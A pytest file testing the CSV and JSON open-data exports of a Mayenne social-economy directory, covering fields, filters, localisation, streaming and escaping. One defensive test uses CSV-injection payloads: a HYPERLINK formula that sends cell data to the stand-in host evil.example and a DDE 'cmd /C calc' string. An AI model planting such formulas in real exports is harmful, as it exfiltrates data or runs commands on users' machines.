"""Open data: CSV and JSON exports of the directory."""

import csv
import io
import math

import pytest
from bs4 import BeautifulSoup

from django.db import connection
from django.http import QueryDict
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from core.memo import localized
from directory import exports
from directory.models import DirectoryIndexPage
from directory.models.index import DirectoryFilters
from tests.directory.test_directory import ALL, FILTERS

from .open_data_helpers import (
    EXPORT,
    PUBLIC_FIELDS,
    add_structure,
    body,
    csv_rows,
    json_data,
    slug_of,
    structure,
)

pytestmark = pytest.mark.django_db


# ---------------------------------------------------------------- exports

def test_csv_export_holds_the_public_fields_of_every_structure(client, demo):
    response = client.get(f"{EXPORT['fr']}csv/")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    fields, rows = csv_rows(response)
    assert fields == PUBLIC_FIELDS
    assert "email" not in fields
    assert len(rows) == 21
    assert {slug_of(row["url"]) for row in rows} == ALL
    roue_libre = next(row for row in rows if slug_of(row["url"]) == "roue-libre")
    assert {key: roue_libre[key] for key in (
        "name", "url", "summary", "legal_form", "street_address", "postcode", "city",
        "latitude", "longitude", "phone", "website", "year_founded", "staff_count",
        "volunteer_count",
    )} == {
        "name": "Atelier vélo Roue Libre",
        "url": "http://testserver/fr/annuaire/roue-libre/",
        "summary": "Atelier participatif de réparation de vélos : apprendre à entretenir son "
                   "vélo, récupérer et remettre en état des vélos abandonnés.",
        "legal_form": "Association",
        "street_address": "1 rue de l'Exemple", "postcode": "53000", "city": "Laval",
        "latitude": "48.0707", "longitude": "-0.7734", "phone": "02 43 00 00 01",
        "website": "https://roue-libre.example/", "year_founded": "1981", "staff_count": "3",
        "volunteer_count": "4",
    }
    assert set(roue_libre["sectors"].split(", ")) == {"Mobilité", "Environnement et réemploi"}
    assert roue_libre["territories"] == "Laval Agglomération"
    assert roue_libre["siret"] == structure("roue-libre").siret


def test_json_export_holds_the_public_fields_of_every_structure(client, demo):
    data = json_data(client.get(f"{EXPORT['fr']}json/"))
    assert set(data) == {"count", "fields", "structures"}
    assert data["fields"] == PUBLIC_FIELDS
    assert data["count"] == 21 == len(data["structures"])
    assert all(list(item) == PUBLIC_FIELDS for item in data["structures"])
    assert {slug_of(item["url"]) for item in data["structures"]} == ALL
    cuisine = next(item for item in data["structures"]
                   if slug_of(item["url"]) == "cuisine-collective")
    assert cuisine["name"] == "Cuisine Collective du Sud-Mayenne"
    assert (cuisine["postcode"], cuisine["city"]) == ("53800", "Renazé")
    assert (cuisine["latitude"], cuisine["longitude"]) == (47.7925, -1.0547)
    assert cuisine["sectors"] == ["Alimentation et agriculture"]
    assert cuisine["territories"] == ["Pays de Craon"]
    assert cuisine["year_founded"] == 1995 and cuisine["volunteer_count"] == 60


def test_english_exports_use_english_names_and_addresses(client, demo):
    data = json_data(client.get(f"{EXPORT['en']}json/"))
    assert data["count"] == 21
    roue_libre = next(item for item in data["structures"] if slug_of(item["url"]) == "roue-libre")
    assert roue_libre["url"] == "http://testserver/en/directory/roue-libre/"
    assert set(roue_libre["sectors"]) == {"Mobility", "Environment and reuse"}
    fields, rows = csv_rows(client.get(f"{EXPORT['en']}csv/"))
    assert fields == PUBLIC_FIELDS and {slug_of(row["url"]) for row in rows} == ALL


@pytest.mark.parametrize(("query", "expected"), FILTERS)
def test_filters_apply_to_the_exports(client, demo, query, expected):
    data = json_data(client.get(f"{EXPORT['fr']}json/?{query}"))
    assert {slug_of(item["url"]) for item in data["structures"]} == expected
    assert data["count"] == len(expected)
    fields, rows = csv_rows(client.get(f"{EXPORT['fr']}csv/?{query}"))
    assert fields == PUBLIC_FIELDS  # even an empty export has its header
    # Same structures, same order, in both formats.
    assert [row["url"] for row in rows] == [item["url"] for item in data["structures"]]


@pytest.mark.parametrize(
    ("query", "expected"),
    [("sector=mobilite", {"roue-libre", "garage-solidaire"}), ("q=velo", {"roue-libre"}),
     ("territory=laval-agglo&relation=sympathiser", {"cigales-53"})],
)
def test_filters_apply_to_the_english_exports(client, demo, query, expected):
    data = json_data(client.get(f"{EXPORT['en']}json/?{query}"))
    assert {slug_of(item["url"]) for item in data["structures"]} == expected
    _, rows = csv_rows(client.get(f"{EXPORT['en']}csv/?{query}"))
    assert {slug_of(row["url"]) for row in rows} == expected


def csv_as_before(language: str, query: str = "") -> bytes:
    """The CSV export as it was built before it was streamed (issue #7): in memory, each
    structure's URL, labels and terms looked up through Wagtail and Django one by one. The
    streamed export must give the same bytes."""
    index = DirectoryIndexPage.objects.get(locale__language_code=language)
    request = RequestFactory().get(f"{EXPORT[language]}csv/?{query}")
    output = io.StringIO()
    output.write("\ufeff")
    writer = csv.DictWriter(output, fieldnames=PUBLIC_FIELDS, delimiter=";")
    writer.writeheader()
    with translation.override(language):
        structures = (
            DirectoryFilters.from_query(QueryDict(query)).search(index.structures(), index.locale)
            .matching().prefetch_related("sectors", "territories").order_by("title")
        )
        for item in structures:
            writer.writerow({
                "name": item.title,
                "url": request.build_absolute_uri(item.get_url(request)),
                "summary": item.summary,
                "legal_form": item.get_legal_form_display(),
                "relation": item.get_relation_display(),
                "sectors": ", ".join(localized(sector).name for sector in item.sectors.all()),
                "territories": ", ".join(
                    localized(territory).name for territory in item.territories.all()),
                "street_address": item.street_address,
                "postcode": item.postcode,
                "city": item.city,
                "latitude": float(item.latitude) if item.latitude is not None else None,
                "longitude": float(item.longitude) if item.longitude is not None else None,
                "phone": item.phone,
                "website": item.website,
                "siret": item.siret,
                "year_founded": item.year_founded,
                "staff_count": item.staff_count,
                "volunteer_count": item.volunteer_count,
            })
    return output.getvalue().encode("utf-8")


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("query", ["", "sector=insertion", "q=velo", "territory=laval-agglo"
                                   "&relation=adherent", "sector=n-existe-pas"])
def test_csv_export_is_streamed_with_the_same_bytes_as_before(client, demo, language, query):
    response = client.get(f"{EXPORT[language]}csv/?{query}")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="annuaire-ess-mayenne.csv"'
    assert body(response) == csv_as_before(language, query)


def test_csv_export_reads_the_structures_a_chunk_at_a_time(client, demo, monkeypatch):
    """The rows are sent as they are read: the first bytes leave before the other chunks of
    structures are read, and each chunk costs the same two queries (its sectors and
    territories), never one a row."""
    monkeypatch.setattr(exports, "CHUNK_SIZE", 5)
    monkeypatch.setattr(exports, "CSV_BUFFER_SIZE", 1)  # a piece of file per row
    response = client.get(f"{EXPORT['fr']}csv/")
    assert response.streaming
    chunks = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as first_chunk:
        first = next(chunks)
    with CaptureQueriesContext(connection) as the_rest:
        rest = b"".join(chunks)
    assert first.startswith(b"\xef\xbb\xbfname;url;")
    # The structures themselves, then the first five's sectors and territories.
    assert len(first_chunk) == 1 + 2
    assert len(the_rest) == 2 * (math.ceil(len(ALL) / 5) - 1)
    assert first + rest == csv_as_before("fr")


def test_csv_export_queries_do_not_grow_with_the_structures(client, demo):
    def count() -> int:
        with CaptureQueriesContext(connection) as captured:
            body(client.get(f"{EXPORT['fr']}csv/"))
        return len(captured)

    count()
    before = count()
    for number in range(30):
        add_structure(slug=f"essai-{number}", title=f"Essai {number}")
    count()
    assert count() == before
    _, rows = csv_rows(client.get(f"{EXPORT['fr']}csv/"))
    assert len(rows) == len(ALL) + 30




def test_csv_keeps_separators_quotes_and_line_breaks_inside_values(client, demo):
    summary = 'Réemploi; "vélos" et pièces\nsur deux lignes'
    add_structure(title="Vélos; pièces & « co »", summary=summary)
    _, rows = csv_rows(client.get(f"{EXPORT['fr']}csv/"))
    row = next(row for row in rows if slug_of(row["url"]) == "essai")
    assert (row["name"], row["summary"]) == ("Vélos; pièces & « co »", summary)
    assert (row["latitude"], row["longitude"], row["year_founded"]) == ("", "", "")
    data = json_data(client.get(f"{EXPORT['fr']}json/"))
    item = next(item for item in data["structures"] if slug_of(item["url"]) == "essai")
    assert (item["summary"], item["latitude"], item["staff_count"]) == (summary, None, None)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_cannot_run_as_spreadsheet_formulas(client, demo, trigger):
    """A text cell that a spreadsheet would evaluate (CSV injection) starts with a single
    quote in the CSV; the JSON keeps the text as typed, and numbers stay numbers."""
    formula = f'{trigger}HYPERLINK("https://evil.example/?"&A1;"clic")'
    add_structure(title=f"{trigger}SUM(1+1)", summary=formula, street_address=f"{trigger}1+2",
                  city=f"{trigger}cmd|' /C calc'!A0", latitude="48.070000",
                  longitude="-0.770000")
    _, rows = csv_rows(client.get(f"{EXPORT['fr']}csv/"))
    row = next(row for row in rows if slug_of(row["url"]) == "essai")
    assert row["name"] == f"'{trigger}SUM(1+1)"
    assert row["summary"] == f"'{formula}"
    assert row["street_address"] == f"'{trigger}1+2"
    assert row["city"] == f"'{trigger}cmd|' /C calc'!A0"
    assert row["longitude"] == "-0.77"
    for other in rows:
        assert not other["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
    data = json_data(client.get(f"{EXPORT['fr']}json/"))
    item = next(item for item in data["structures"] if slug_of(item["url"]) == "essai")
    assert (item["name"], item["summary"]) == (f"{trigger}SUM(1+1)", formula)


def test_directory_links_to_its_exports(client, demo):
    page = BeautifulSoup(client.get("/fr/annuaire/").content, "html.parser")
    links = {a["href"] for a in page.select("a[href]")}
    assert {"/fr/annuaire/export/csv/", "/fr/annuaire/export/json/"} <= links
